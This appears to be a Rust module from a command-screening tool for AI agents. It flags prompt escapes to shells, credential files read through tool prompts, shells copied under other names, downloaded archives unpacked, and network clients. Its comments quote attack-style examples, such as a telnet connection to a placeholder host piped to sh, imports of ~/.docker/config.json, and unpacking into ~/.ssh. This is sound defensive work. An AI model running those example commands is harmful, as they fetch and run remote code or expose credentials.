//! What passes between the commands of one line: standard input typed at
//! another program's prompt, shells copied under other names, archives
//! fetched and unpacked, and the network connections a pipeline holds.

use super::*;

impl<'c> Walker<'c> {
    /// A prompt's script given on the command line (`lftp -c 'CMD;
    /// CMD'`, `ftp -s:FILE` of a file the line wrote).
    fn prompt_script(&self, site: Site<'_>, opts: &[&str]) -> Option<String> {
        let vals: Vec<&str> = site.cmd.argv.iter().map(Word::value_or_raw).collect();
        opts.iter().find_map(|opt| {
            if opt.ends_with(':') {
                let file = vals.iter().find_map(|v| v.strip_prefix(opt))?;
                return self.written(file).map(|g| g.payload);
            }
            vals.windows(2).find_map(|w| match w {
                [o, script] if o == opt => Some(script.replace(';', "\n")),
                _ => None,
            })
        })
    }

    /// Standard input to a program with a command prompt
    /// (`agentgate_commands::PROMPTS`) is a script for that prompt: a line
    /// starting with one of its escapes runs the rest of the line.
    pub(super) fn prompt_escapes(&mut self, site: Site<'_>, name: &str) {
        let Some(p) = agentgate_commands::prompt(name) else {
            return;
        };
        let input = stdin_text(site).or_else(|| self.prompt_script(site, p.script_opts));
        let Some(input) = input else {
            return;
        };
        let text = &site.cmd.text;
        // A credential file named in the prompt's input is read by it
        // (sqlite3's `.import ~/.docker/config.json x`).
        for tok in paths::tokens(&input) {
            if let Some((sev, what)) = paths::credential(tok) {
                self.find(
                    Cred,
                    sev,
                    format!("hands {name} input that reads {what} ({tok})"),
                    text,
                );
            }
        }
        for line in input.lines().take(256) {
            let line = line.trim_start();
            if let Some(lib) = p.loads.iter().find_map(|l| line.strip_prefix(l)) {
                let lib = lib.split_whitespace().next().unwrap_or("");
                self.find(
                    Obf,
                    High,
                    format!("loads the shared library {lib} through {name}'s prompt"),
                    text,
                );
                continue;
            }
            let Some((esc, rest)) = p.escapes.iter().find_map(|e| {
                line.strip_prefix(e).map(|r| {
                    // `esyscmd(CMD)`: the command inside the call.
                    let r = r.trim();
                    let r = if e.ends_with('(') {
                        r.strip_suffix(')').unwrap_or(r)
                    } else {
                        r
                    };
                    (*e, r)
                })
            }) else {
                continue;
            };
            // Tcl's `exec` and `spawn` take words, braces quoting them
            // (`exec sh -c {make test}`): the same words in shell quoting.
            let tcl = p.lang == agentgate_commands::Lang::Tcl;
            let words;
            let rest = if tcl {
                words = code::tcl_words_as_shell(rest);
                words.as_str()
            } else {
                rest
            };
            let shell = p.lang == agentgate_commands::Lang::Shell || tcl;
            // Leaving a tool's prompt for a shell is asked about even when
            // the command is ordinary: agents have no need for it, and an
            // injected instruction uses it to look like something else.
            // The command itself is judged too (a harmful one is denied).
            self.find(
                Obf,
                Medium,
                format!("runs a command from {name}'s prompt ({})", esc.trim()),
                text,
            );
            if rest.is_empty() {
                continue;
            }
            if shell {
                self.script(rest, site.depth + 1);
            } else {
                self.code(site, name, rest);
            }
        }
    }
}

impl<'c> Walker<'c> {
    /// Remembers what later commands of the line depend on: an archive
    /// fetched earlier and unpacked now (what runs from it next is code
    /// from the network), and a shell copied or linked under another name
    /// (running that name runs a shell).
    pub(super) fn copies_and_unpacks(
        &mut self,
        site: Site<'_>,
        name: &str,
        rest: &[Arg<'_>],
        vals: &[&str],
    ) {
        let unpacks = match name {
            "tar" | "gtar" | "bsdtar" => vals.iter().any(|v| {
                v.starts_with('-') && !v.starts_with("--") && v.contains('x')
                    || *v == "--extract"
                    || (!v.starts_with('-')
                        && v.contains('x')
                        && v.len() <= 5
                        && v.chars().all(|c| c.is_ascii_alphabetic()))
            }),
            "unzip" | "ditto" => true,
            "7z" | "7za" | "7zz" => vals.first().is_some_and(|v| *v == "x" || *v == "e"),
            _ => false,
        };
        // Where the archive is unpacked is written (`unzip k.zip -d ~/.ssh`,
        // `bsdtar xf k.tar -C ~/.aws`).
        if unpacks {
            let into: &[&str] = match name {
                "tar" | "gtar" | "bsdtar" => &["-C", "--directory"],
                "unzip" => &["-d"],
                _ => &[],
            };
            for i in 0..vals.len() {
                if let Some((v, _)) = agentgate_commands::option_value(vals, i, into) {
                    self.written_by_option(site, name, v);
                }
            }
        }
        // The archive fetched earlier, or fetched into this unpacker's
        // standard input (`wget -O- URL | tar xz`).
        let piped_download =
            site.cmd.pipeline.index > 0 && upstream(site).iter().any(|c| fetch_url(c).is_some());
        if unpacks
            && (piped_download
                || vals
                    .iter()
                    .any(|v| self.downloaded.iter().any(|(d, _)| same_file(d, v))))
        {
            self.download_unpacked = true;
            // A member unpacked to standard output and redirected to a file
            // (`curl URL | tar xfOz - sshx >.s`): the file is downloaded
            // code, as `curl URL >.s` makes it (thc, session 63).
            let to_file = super::util::stdout_file(site.cmd);
            self.downloaded.extend(to_file.map(|f| (f, None)));
        }
        // `cat /bin/rm > x`, `dd if=/bin/rm of=x`, `base64 /bin/rm | base64
        // -d > x`, `curl file:///bin/rm -o x`: a copy made by writing a
        // program's bytes.
        if let Some((program, dest)) = bytes_copy(site, name, vals) {
            if let Some(d) = paths::absolute(&dest, &dest, dest.starts_with('~'), &self.ctx) {
                self.remember_copy(site, d, program);
            }
        }
        // A public exploit copied, linked or renamed (`cp CVE-X.py b.py`):
        // the new name runs it (session 45). Remembered without a finding:
        // renaming `poc.py` is no attack, running the copy is.
        if matches!(name, "cp" | "ln" | "mv" | "install") {
            let ops: Vec<&str> = vals
                .iter()
                .copied()
                .filter(|v| !v.starts_with('-'))
                .collect();
            if let [source, dest] = ops.as_slice() {
                // A script named for an attack kit's tool too
                // (`GetUserSPNs.py`, `secretsdump.py`: AD_ATTACKS), whose
                // row knows it by that name only (session 50).
                let base = paths::basename(source).to_ascii_lowercase();
                let tool_script = agentgate_commands::SCRIPT_EXTENSIONS
                    .iter()
                    .any(|x| base.ends_with(x))
                    && agentgate_commands::program(paths::basename(source)).is_some();
                if agentgate_commands::exploit_script(source).is_some() || tool_script {
                    if let Some(d) = paths::absolute(dest, dest, dest.starts_with('~'), &self.ctx) {
                        self.program_copies
                            .push((d, paths::basename(source).to_owned()));
                    }
                }
            }
        }
        if !matches!(name, "cp" | "ln" | "install" | "ditto" | "rsync") {
            return;
        }
        let operands: Vec<&Arg<'_>> = rest.iter().filter(|a| !a.v().starts_with('-')).collect();
        let Some((dest, sources)) = operands.split_last() else {
            return;
        };
        let copies_shell = sources.iter().any(|s| {
            let v = s.v();
            (v.starts_with('/') || v.contains("$(which") || v.contains("`which"))
                && SHELLS.contains(&paths::basename(v.trim_end_matches([')', '`'])))
        });
        if !copies_shell {
            // Any other known program copied or linked under another name
            // (`cp /bin/rm ./x`): running the copy runs that program.
            if let ([source], false) = (sources, dest.v().ends_with('/')) {
                if let Some(program) = copied_program(source.v()) {
                    for d in self.arg_paths(dest) {
                        self.remember_copy(site, d, program);
                    }
                }
            }
            return;
        }
        // Only a copy under another name hides a shell (`cp /usr/bin/busybox
        // initramfs/bin/` keeps its name); the directory it went to is
        // remembered for programs that run a whole directory (run-parts).
        if dest.v().ends_with('/') {
            for d in self.arg_paths(dest) {
                self.shell_dirs.push(d);
            }
            return;
        }
        for d in self.arg_paths(dest) {
            if !SHELLS.contains(&paths::basename(&d)) {
                self.shell_copies.push(d);
            }
        }
    }
}

impl<'c> Walker<'c> {
    /// A copy of `program` made at `dest`: remembered for the rest of the
    /// line, and asked about when it renames the program (a later call
    /// would run it under a name no check knows). A version alias
    /// (`python3.11` as `python`) is the same program's name.
    fn remember_copy(&mut self, site: Site<'_>, dest: String, program: &str) {
        let stem = |n: &str| {
            n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-')
                .to_owned()
        };
        let new_name = paths::basename(&dest);
        if new_name == program || stem(new_name) == stem(program) {
            return;
        }
        self.find(
            Obf,
            Medium,
            format!("copies {program} under another name ({dest}), so that a later command runs it unrecognised"),
            &site.cmd.text,
        );
        self.program_copies.push((dest, program.to_owned()));
    }

    /// Interpreter code that copies or links a program from a directory of
    /// programs (`shutil.copy("/bin/rm", "x")`, `fs.copyFileSync`): the
    /// literal after the program's path is taken as the copy, remembered
    /// as shell copies are (`remember_copy`); without one, the copy is
    /// asked about as a rename all the same.
    pub(super) fn code_copies(
        &mut self,
        site: Site<'_>,
        via: &str,
        facts: &crate::code::CodeFacts,
    ) {
        if !facts.copies {
            return;
        }
        let lits = &facts.literals;
        for (i, lit) in lits.iter().enumerate() {
            let Some(program) = copied_program(lit) else {
                continue;
            };
            let dest = lits
                .get(i + 1)
                .and_then(|d| paths::absolute(d, d, d.starts_with('~'), &self.ctx));
            match dest {
                Some(d) => self.remember_copy(site, d, program),
                None => self.find(
                    Obf,
                    Medium,
                    format!("{via} code copies {program} under another name, so that a later command runs it unrecognised"),
                    &site.cmd.text,
                ),
            }
        }
    }

    /// The program `full_name` is a copy of (see `program_copies`), found
    /// as running a program under another name.
    /// The program (or exploit script) the line copied to `abs`, if any.
    pub(super) fn copied_from(&self, abs: &str) -> Option<&str> {
        self.program_copies
            .iter()
            .find(|(c, _)| same_file(c, abs))
            .map(|(_, p)| p.as_str())
    }

    pub(super) fn copy_of(&mut self, site: Site<'_>, full_name: &str) -> Option<String> {
        if self.program_copies.is_empty() {
            return None;
        }
        // By its path, or by its bare name (found through a PATH that holds
        // its directory) when that name is no program of its own.
        let program = if full_name.contains('/') {
            let abs = paths::absolute(full_name, full_name, false, &self.ctx)?;
            self.copied_from(&abs)?.to_owned()
        } else if !super::unknown::known_command(full_name) {
            self.program_copies
                .iter()
                .find(|(c, _)| paths::basename(c) == full_name)
                .map(|(_, p)| p.clone())?
        } else {
            return None;
        };
        self.find(
            Obf,
            Medium,
            format!("runs {full_name}, a copy of {program} under another name"),
            &site.cmd.text,
        );
        Some(program)
    }

    /// A directory holding a copy of a shell made earlier in the line,
    /// handed to a program or put on `PATH` (GTFOBins zypper: `cp /bin/sh
    /// /tmp/td/zypper-x; PATH=$PATH:/tmp/td zypper x`; rustup: a toolchain
    /// whose `rustc` is a shell): the program will run the shell.
    pub(super) fn hands_shell_copy(&mut self, site: Site<'_>, name: &str, rest: &[Arg<'_>]) {
        if self.shell_copies.is_empty() && self.shell_dirs.is_empty()
            || agentgate_commands::TREE_CHANGERS.contains(&name)
            || agentgate_commands::PURE_READERS.contains(&name)
        {
            return;
        }
        let runs_directory = matches!(name, "run-parts");
        let held = rest.iter().flat_map(|a| self.arg_paths(a)).find(|p| {
            self.shell_copies.iter().any(|c| paths::within(c, p))
                || runs_directory && self.shell_dirs.iter().any(|d| same_file(d, p))
        });
        if let Some(p) = held {
            self.find(
                Obf,
                Medium,
                format!("hands {name} {p}, which holds a copy of a shell under another name"),
                &site.cmd.text,
            );
        }
    }

    /// `PATH=...:DIR` where DIR holds a copy of a shell made earlier.
    pub(super) fn path_with_shell_copy(&mut self, var: &str, raw: &str, text: &str) {
        if self.shell_copies.is_empty() || var != "PATH" {
            return;
        }
        let dirs: Vec<String> = raw
            .trim_matches(['"', '\''])
            .split(':')
            .filter(|d| !d.contains('$') && !d.is_empty())
            .filter_map(|d| paths::absolute(d, d, d.starts_with('~'), &self.ctx))
            .collect();
        if let Some(d) = dirs
            .iter()
            .find(|d| self.shell_copies.iter().any(|c| paths::within(c, d)))
        {
            self.find(
                Obf,
                Medium,
                format!("puts {d}, which holds a copy of a shell under another name, on PATH"),
                text,
            );
        }
    }
}

impl<'c> Walker<'c> {
    /// The words a command's first word stands for when it is a variable
    /// assigned earlier in the line (`C='curl -Ns telnet://h:1'; $C ...`).
    pub(super) fn program_through_variable(&self, cmd: &SimpleCommand) -> Option<Vec<String>> {
        let first = cmd.argv.first()?;
        let bare = first.raw.trim_matches('"');
        if !bare.starts_with('$') {
            return None;
        }
        // `cmd=(curl -s URL); "${cmd[@]}"`: the array's words.
        if let Some(words) = bare
            .strip_prefix("${")
            .and_then(|r| r.strip_suffix("[@]}").or_else(|| r.strip_suffix("[*]}")))
            .and_then(|n| self.arrays.get(n))
        {
            return Some(words.split_whitespace().map(str::to_owned).collect());
        }
        let resolved = self.resolve_vars(&first.raw)?;
        Some(resolved.split_whitespace().map(str::to_owned).collect())
    }

    /// The program of `cmd` when it opens a network connection that data
    /// flows through: netcat and its kin, `openssl s_client`, `telnet`,
    /// `curl telnet://`, also when named through a variable assigned
    /// earlier (`C='curl -Ns telnet://h:1'; $C | sh`).
    pub(super) fn network_client(&self, cmd: &SimpleCommand) -> Option<String> {
        let first = cmd.argv.first()?;
        let mut words: Vec<String> = self
            .program_through_variable(cmd)
            .unwrap_or_else(|| vec![first.value_or_raw().to_owned()]);
        words.extend(cmd.argv.iter().skip(1).map(|w| w.value_or_raw().to_owned()));
        let name = paths::basename(words.first()?).to_owned();
        let args = words.get(1..).unwrap_or(&[]);
        let connects = NETCAT.contains(&name.as_str())
            || matches!(name.as_str(), "telnet" | "ztcp" | "socat" | "rcat")
            || name == "openssl" && args.iter().any(|a| a == "s_client")
            || FETCHERS.contains(&name.as_str())
                && args
                    .iter()
                    .any(|a| a.starts_with("telnet://") || a.starts_with("tcp://"));
        connects.then_some(name)
    }
}

/// The known program a copy's source names: an absolute path (`/bin/rm`)
/// or a lookup (`$(which rm)`, `$(command -v rm)`, `` `which rm` ``).
fn copied_program(source: &str) -> Option<&str> {
    // `"$(which rm)"`: the quotes hold one word.
    let source = source.trim_matches('"');
    let looked_up = [
        "$(which ",
        "$(command -v ",
        "$(type -P ",
        "$(type -p ",
        "$(readlink -f ",
        "$(realpath ",
        "`which ",
        "`command -v ",
        "`type -P ",
        "`readlink -f ",
        "`realpath ",
    ]
    .iter()
    .find_map(|p| source.strip_prefix(p))
    .map(|r| r.trim_end_matches([')', '`']).trim());
    // A program's file lives in a directory of programs (`/etc/passwd`
    // and `/file` are data, whatever their names).
    let path = match looked_up {
        Some(p) => p,
        None if source.starts_with('/') && source.contains("bin/") => source,
        None => return None,
    };
    let base = paths::basename(path);
    (!base.is_empty() && super::unknown::known_command(base)).then_some(base)
}

/// Programs whose output from a program's file is no copy of it (beside
/// `agentgate_commands::METADATA_READERS`, which holds the checksums and
/// `readlink`/`realpath`): BSD's `sum`, symbol and text dumps, matches,
/// path lookups, and the copiers judged by their own reading below.
const NOT_COPIERS: &[&str] = &[
    "sum", "ldd", "strings", "nm", "objdump", "readelf", "otool", "which", "type", "grep", "egrep",
    "fgrep", "rg", "diff", "cmp", "cp", "ln", "install", "ditto", "rsync", "mv", "chmod", "chown",
    "touch",
];

/// A copy of a program made by writing its bytes: the command reads a
/// program's file (an operand, `if=`, a `file://` URL or an input
/// redirect) and its output reaches a file (its own write redirect,
/// `-o`/`of=`, or a later `tee` or write redirect in the same pipeline).
/// The program and the file written.
fn bytes_copy<'a>(site: Site<'a>, name: &str, vals: &[&'a str]) -> Option<(&'a str, String)> {
    if NOT_COPIERS.contains(&name) || agentgate_commands::METADATA_READERS.contains(&name) {
        return None;
    }
    let operand = vals.iter().find_map(|v| {
        let v = v.strip_prefix("if=").unwrap_or(v);
        copied_program(v.strip_prefix("file://").unwrap_or(v))
    });
    let redirected_in = || {
        site.cmd.redirects.iter().find_map(|r| {
            matches!(r.kind, RedirectKind::Read)
                .then(|| r.target.as_ref()?.literal.as_deref())
                .flatten()
                .and_then(copied_program)
        })
    };
    let program = operand.or_else(redirected_in)?;
    let written = |c: &'a SimpleCommand| {
        c.redirects.iter().find_map(|r| {
            (r.kind.writes() && !matches!(r.kind, RedirectKind::Duplicate))
                .then(|| r.target.as_ref()?.literal.clone())
                .flatten()
        })
    };
    let own_output = || {
        vals.iter().enumerate().find_map(|(i, v)| {
            v.strip_prefix("of=").map(str::to_owned).or_else(|| {
                agentgate_commands::OUTPUT_OPTIONS
                    .contains(v)
                    .then(|| vals.get(i + 1).map(|s| (*s).to_owned()))
                    .flatten()
            })
        })
    };
    let downstream = || {
        super::util::later_in_pipeline(site)
            .into_iter()
            .find_map(|c| {
                let tee = (c.argv.first().and_then(|w| w.literal.as_deref()) == Some("tee"))
                    .then(|| {
                        c.argv
                            .iter()
                            .skip(1)
                            .filter_map(|w| w.literal.as_deref())
                            .find(|w| !w.starts_with('-'))
                            .map(str::to_owned)
                    })
                    .flatten();
                tee.or_else(|| written(c))
            })
    };
    let dest = written(site.cmd)
        .or_else(own_output)
        .or_else(downstream)
        .filter(|d| !d.starts_with("/dev/"))?;
    Some((program, dest))
}
